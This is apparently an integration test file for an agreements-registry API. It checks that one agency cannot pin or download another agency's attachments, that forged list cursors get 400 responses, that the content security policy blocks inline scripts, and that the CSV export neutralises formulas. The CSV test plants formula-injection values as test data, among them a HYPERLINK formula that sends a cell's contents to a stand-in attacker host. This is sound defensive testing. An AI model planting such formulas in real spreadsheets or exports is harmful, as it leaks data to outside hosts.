/**
 * Data exposure (issue 12, items 1, 6 and 11), black-box over HTTP against the real api, worker, Temporal and
 * Postgres: another agency's attachment can neither be pinned nor read; forged list cursors are 400 on every list;
 * the registry's CSV export carries no live formula.
 */
import { randomBytes } from 'node:crypto';
import { ApiClient, login } from '../support/http';
import { mouBody } from '../support/fixtures';
import { driveMou } from '../support/drive';
import { waitFor } from '../support/eventually';
import { stack } from './stack';
import { demoEmail } from '../support/demo-users';

const { apiUrl } = stack();
const V1 = '/api/v1';

const fakePdf = () => Buffer.concat([Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\n'), randomBytes(256), Buffer.from('\n%%EOF\n')]);

async function upload(client: ApiClient, filename: string): Promise<string> {
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(fakePdf())], { type: 'application/pdf' }), filename);
  const res = await fetch(`${apiUrl}${V1}/attachments`, {
    method: 'POST',
    headers: { authorization: `Bearer ${client.token}` },
    body: form,
  });
  expect(res.status).toBe(201);
  return ((await res.json()) as { id: string }).id;
}

const download = async (client: ApiClient, id: string) =>
  (await fetch(`${apiUrl}${V1}/attachments/${id}/content`, { headers: { authorization: `Bearer ${client.token}` } })).status;

type Task = { id: string; kind: string; status: string };

describe('data exposure', () => {
  let sct: ApiClient, sgddt: ApiClient, officer: ApiClient, admin: ApiClient, auditor: ApiClient;

  beforeAll(async () => {
    [sct, sgddt, officer, admin, auditor] = (await Promise.all(
      [
        demoEmail({ agency: 'HT-SCT', role: 'SUBMITTER' }),
        demoEmail({ agency: 'HT-SGDDT', role: 'SUBMITTER' }),
        demoEmail({ agency: 'HT-SNGV', role: 'REVIEWER' }),
        demoEmail({ agency: null, role: 'ADMIN' }),
        demoEmail({ agency: null, role: 'AUDITOR' }),
      ].map((e) => login(apiUrl, e)),
    )) as [ApiClient, ApiClient, ApiClient, ApiClient, ApiClient];
  });

  async function openTasks(client: ApiClient, proposalId: string, kind?: string): Promise<Task[]> {
    const res = await client.get(`${V1}/tasks?proposalId=${proposalId}&status=OPEN${kind ? `&kind=${kind}` : ''}`);
    expect(res.status).toBe(200);
    return res.body.items;
  }

  function expectAttachmentRefused(res: { status: number; body: any; contentType: string | null }, field: string) {
    expect({ status: res.status, fields: res.body?.errors?.map((e: { field: string }) => e.field) }).toEqual({
      status: 400,
      fields: [field],
    });
    expect(res.contentType).toMatch(/application\/problem\+json/);
  }

  describe('cross-agency attachments (item 1)', () => {
    it("refuses to pin another agency's upload to a new proposal, so its bytes stay unreadable", async () => {
      const secret = await upload(sct, 'Hồ sơ nội bộ Sở Công Thương.pdf');
      expect(await download(sgddt, secret)).toBe(404);
      // The reproduction: HT-SGDDT pins HT-SCT's upload to its own proposal, then downloads it through that proposal.
      const own = await upload(sgddt, 'Hồ sơ của Sở Giáo dục.pdf');
      const pinned = await sgddt.post(`${V1}/proposals`, mouBody({ title: 'MoU pinning a foreign file', attachmentIds: [own, secret] }));
      expectAttachmentRefused(pinned, 'attachmentIds.1');
      expect((await sgddt.post(`${V1}/proposals/preview`, mouBody({ attachmentIds: [secret] }))).status).toBe(400);
      expect(await download(sgddt, secret)).toBe(404);
      // An unknown id answers exactly like a foreign one: the refusal does not tell that the id exists.
      const unknown = await sgddt.post(`${V1}/proposals`, mouBody({ attachmentIds: ['00000000-0000-4000-8000-000000000000'] }));
      expect(unknown.body.errors).toEqual(
        pinned.body.errors.map((e: { message: string }) => ({ field: 'attachmentIds.0', message: e.message })),
      );
      // Its own agency's uploads are fine.
      const ok = await sgddt.post(`${V1}/proposals`, mouBody({ title: 'MoU with its own file', attachmentIds: [own] }));
      expect(ok.status).toBe(201);
      expect(await download(officer, own)).toBe(200);
    });

    it("refuses another agency's upload in a task decision and in a RESUBMIT, and keeps the proposal's own files usable", async () => {
      const sctFile = await upload(sct, 'Dự thảo.pdf');
      const created = await sct.post(`${V1}/proposals`, mouBody({ title: 'MoU resubmitted', attachmentIds: [sctFile] }));
      expect(created.status).toBe(201);
      const proposalId: string = created.body.id;
      const [intake] = await waitFor(
        'intake task',
        () => openTasks(officer, proposalId, 'INTAKE_CHECK'),
        (t) => t.length === 1,
      );
      const sgddtFile = await upload(sgddt, 'Tài liệu Sở Giáo dục.pdf');

      // A reviewer may attach its own agency's file or one already on the proposal, not another agency's.
      expectAttachmentRefused(
        await officer.post(`${V1}/tasks/${intake!.id}/complete`, {
          decision: 'REQUEST_SUPPLEMENT',
          comment: 'Bổ sung',
          attachmentIds: [sgddtFile],
        }),
        'attachmentIds.0',
      );
      const officerNote = await upload(officer, 'Phiếu yêu cầu bổ sung.pdf');
      const asked = await officer.post(`${V1}/tasks/${intake!.id}/complete`, {
        decision: 'REQUEST_SUPPLEMENT',
        comment: 'Bổ sung',
        attachmentIds: [officerNote, sctFile],
      });
      expect(asked.status).toBe(200);

      const [supplement] = await waitFor(
        'supplement task',
        () => openTasks(sct, proposalId, 'SUPPLEMENT'),
        (t) => t.length === 1,
      );
      const foreign = await sct.post(`${V1}/tasks/${supplement!.id}/complete`, {
        decision: 'RESUBMIT',
        changes: { attachmentIds: [sctFile, sgddtFile] },
      });
      expectAttachmentRefused(foreign, 'changes.attachmentIds.1');
      const alsoForeign = await sct.post(`${V1}/tasks/${supplement!.id}/complete`, { decision: 'RESUBMIT', attachmentIds: [sgddtFile] });
      expect(alsoForeign.status).toBe(400);
      expect(alsoForeign.body.errors.map((e: { field: string }) => e.field)).toContain('attachmentIds.0');
      expect(await download(sct, sgddtFile)).toBe(404);
      // The proposal's own files — its dossier's and the officer's note on its task — may be carried on.
      const fresh = await upload(sct, 'Bản bổ sung.pdf');
      const resubmitted = await sct.post(`${V1}/tasks/${supplement!.id}/complete`, {
        decision: 'RESUBMIT',
        changes: { attachmentIds: [sctFile, officerNote, fresh] },
      });
      expect(resubmitted.status).toBe(200);
    });

    it("does not show another agency's plan-item notes and attachment ids in GET /plans/:id (report cycles: report-cycles suite)", async () => {
      const plan = await officer.post(`${V1}/plans`, {
        title: `Exposure ${Date.now()}`,
        items: [{ no: 1, task: 'Rà soát thỏa thuận', leadAgency: 'HT-SNGV', timeFrame: 'Năm 2027', output: 'Báo cáo' }],
      });
      expect(plan.status).toBe(201);
      const evidence = await upload(officer, 'Biên bản nội bộ.pdf');
      const itemId: string = plan.body.items[0].id;
      const update = await officer.post(`${V1}/plans/${plan.body.id}/items/${itemId}/updates`, {
        status: 'IN_PROGRESS',
        note: 'Ghi chú nội bộ của Sở Ngoại vụ',
        attachmentIds: [evidence],
      });
      expect(update.status).toBe(201);
      const seenBy = async (c: ApiClient) => (await c.get(`${V1}/plans/${plan.body.id}`)).body.items[0].updates[0];
      expect(await seenBy(sct)).toMatchObject({ status: 'IN_PROGRESS', agency: { code: 'HT-SNGV' }, note: null, attachmentIds: [] });
      for (const c of [officer, auditor, admin])
        expect(await seenBy(c)).toMatchObject({ note: 'Ghi chú nội bộ của Sở Ngoại vụ', attachmentIds: [evidence] });
      // The file behind the id follows the same rule: readable by those shown the id, 404 for the other agency.
      expect({
        auditor: await download(auditor, evidence),
        admin: await download(admin, evidence),
        sct: await download(sct, evidence),
        sgddt: await download(sgddt, evidence),
      }).toEqual({ auditor: 200, admin: 200, sct: 404, sgddt: 404 });
      // And the plan-item update itself refuses a file of another agency.
      const foreign = await upload(sct, 'Tài liệu Sở Công Thương.pdf');
      expectAttachmentRefused(
        await officer.post(`${V1}/plans/${plan.body.id}/items/${itemId}/updates`, { status: 'DONE', note: 'x', attachmentIds: [foreign] }),
        'attachmentIds.0',
      );
    });
  });

  describe('forged cursors (item 11)', () => {
    const forge = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
    const FORGED: [string, string][] = [
      ['not base64url JSON', 'garbage!!'],
      ['base64url of a non-JSON text', Buffer.from('hello').toString('base64url')],
      ['an object', forge({ at: '2026-01-01' })],
      ['wrong arity', forge(['2026-01-01T00:00:00.000Z'])],
      ['too many values', forge(['2026-01-01T00:00:00.000Z', '00000000-0000-4000-8000-000000000000', 'x', 'y'])],
      ['wrong types', forge([{ a: 1 }, [1]])],
      ['a non-date and a non-uuid', forge(['yesterday', 'not-a-uuid'])],
      ['a date that does not exist', forge(['2026-02-31T00:00:00.000Z', '00000000-0000-4000-8000-000000000000'])],
      ['huge numbers', forge([1e308, 9007199254740993])],
      ['a huge digit string', forge(['99999999999999999999999999'])],
      ['a NUL byte', forge(['a\u0000', 'b\u0000', '00000000-0000-4000-8000-000000000000'])],
    ];
    const LISTS = ['/tasks', '/proposals', '/notifications', '/agreements', '/audit', '/plans', '/report-cycles', '/users', '/policies'];

    it.each(LISTS)('answers %s with 400 on cursor for every forged cursor, never a 500', async (list) => {
      const client = ['/audit'].includes(list) ? auditor : admin;
      const answers = [];
      for (const [what, cursor] of FORGED) {
        const res = await client.get(`${V1}${list}?cursor=${encodeURIComponent(cursor)}`);
        answers.push({
          what,
          status: res.status,
          fields: res.body?.errors?.map((e: { field: string }) => e.field),
          problem: /application\/problem\+json/.test(res.contentType ?? ''),
        });
      }
      expect(answers).toEqual(FORGED.map(([what]) => ({ what, status: 400, fields: ['cursor'], problem: true })));
    });

    it('still pages with the cursors it issues', async () => {
      for (const list of LISTS) {
        const client = list === '/audit' ? auditor : admin;
        const first = await client.get(`${V1}${list}?limit=1`);
        expect({ list, status: first.status }).toEqual({ list, status: 200 });
        if (first.body.nextCursor) {
          const next = await client.get(`${V1}${list}?limit=1&cursor=${encodeURIComponent(first.body.nextCursor)}`);
          expect({ list, status: next.status }).toEqual({ list, status: 200 });
          expect(next.body.items[0]).not.toEqual(first.body.items[0]);
        }
      }
    });
  });

  describe('content security policy (item 13)', () => {
    it('allows scripts from this origin only, never inline, and Swagger UI still loads its scripts as files', async () => {
      const res = await fetch(`${apiUrl}/api/docs`);
      expect(res.status).toBe(200);
      const csp = res.headers.get('content-security-policy') ?? '';
      const directive = (name: string) =>
        csp
          .split(';')
          .map((d) => d.trim())
          .find((d) => d.startsWith(`${name} `));
      expect(directive('script-src')).toBe("script-src 'self'");
      expect(directive('script-src-attr')).toBe("script-src-attr 'none'");
      expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);
      const html = await res.text();
      const scripts = html.match(/<script\b[^>]*>/g) ?? [];
      expect(scripts.length).toBeGreaterThan(0);
      expect(scripts.filter((tag) => !/\bsrc=/.test(tag))).toEqual([]);
    });
  });

  describe('CSV export (item 6)', () => {
    it('carries no live formula: cells starting with = + - @ tab or CR are quoted as text', async () => {
      const title = `=1+2 MoU ${randomBytes(3).toString('hex')}`;
      await driveMou(apiUrl, {
        until: 'SIGNED',
        body: mouBody({ title }),
        signing: {
          place: '@SUM(1,2)',
          agreementNumber: `+${randomBytes(2).toString('hex')}/TTQT`,
          signatories: [{ name: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', title: '-2+3', party: 'Hà Tĩnh' }],
        },
      });
      const res = await fetch(`${apiUrl}${V1}/agreements/export?format=csv`, { headers: { authorization: `Bearer ${sct.token}` } });
      expect(res.status).toBe(200);
      const csv = (await res.text()).replace(/^\uFEFF/, '');
      const line = csv.split('\r\n').find((l) => l.includes(title.slice(5)));
      expect(line).toBeDefined();
      const cells = parseCsvLine(line!);
      expect(cells).toEqual(
        expect.arrayContaining([
          `'${title}`,
          "'@SUM(1,2)",
          expect.stringMatching(/^'\+[0-9a-f]{4}\/TTQT$/),
          expect.stringMatching(/^'=HYPERLINK\(/),
        ]),
      );
      // Over the whole export: no cell begins with a formula character.
      for (const l of csv.split('\r\n').filter(Boolean)) {
        for (const cell of parseCsvLine(l)) expect({ cell, live: /^[=+\-@\t\r]/.test(cell) }).toEqual({ cell, live: false });
      }
    });
  });
});

/** One RFC 4180 record (no line breaks inside quoted cells in this export's test data). */
function parseCsvLine(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (quoted) {
      if (ch === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      cells.push(cell);
      cell = '';
    } else cell += ch;
  }
  cells.push(cell);
  return cells;
}
